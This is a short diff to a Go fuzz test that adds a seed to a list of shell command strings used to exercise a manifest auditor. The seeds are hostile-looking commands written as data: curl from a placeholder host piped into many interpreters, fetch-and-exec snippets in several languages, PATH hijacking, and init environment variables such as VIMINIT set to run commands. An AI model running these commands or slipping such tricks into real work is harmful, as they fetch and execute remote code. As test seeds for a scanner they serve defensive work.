@@ -342,6 +342,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "python3 -c 'c = urlopen(u).read(); x == requests.get(y); exec(c); exec(x)'; perl -e 'my $r = $ua->get($u); eval $r'; Rscript -e 'd <- GET(u); eval(parse(text=d))'; julia -e 'f = download(u); include(f)'"},
 	{"sh", "-c", "curl h://x | R --vanilla --args; curl h://x | R -f -; curl h://x | clojure -M -; curl h://x | erl -detached; curl h://x | pwsh -c -; curl h://x | pwsh -NoLogo -?; curl h://x | ghci -e x; curl h://x | irb -r x; curl h://x | ocaml -init /t/a; curl h://x | kotlinc -script; curl h://x | gnuplot -c /t/a; curl h://x | lftp -e '!sh' -f /t/a; curl h://x | m4 -Dx --define y -; curl h://x | sqlplus /nolog @; curl -o /t/a h://x; m4 /t/a; sqlplus u @/t/a; gnuplot -e \"system 'npx p'; !id\" /t/a; ghci -e ':!npx q' -e 'callCommand \"id\"'"},
 	{"sh", "-c", "curl -o bin/t h://x; PATH=$PWD/bin:${PWD}/b:$(pwd)/c:`pwd -L`/d:$(pwd -x)/e:${PWD:-x}/f:${#PWD}:$(cd; pwd) t; pwsh -c '$env:Path = \"C:\\t;;`$x;$env:P\"; $env:PATH = \"\"; $env:Path = \"a\" + \"b\"'"},
+	{"sh", "-c", "VIMINIT=':!id' EXINIT=x GVIMINIT=x VIMRUNTIME=/t PSQLRC=/t IRBRC=/t SCREENRC=/t SYSSCREENRC=/t IPYTHONDIR=/t JUPYTER_CONFIG_DIR=/t EMACSLOADPATH=/t GUILE_LOAD_PATH=/t GUILE_LOAD_COMPILED_PATH=/t ERL_LIBS=/t LFTP_HOME=/t vim -es; export psqlrc=/t; env IrbRc=/t irb"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
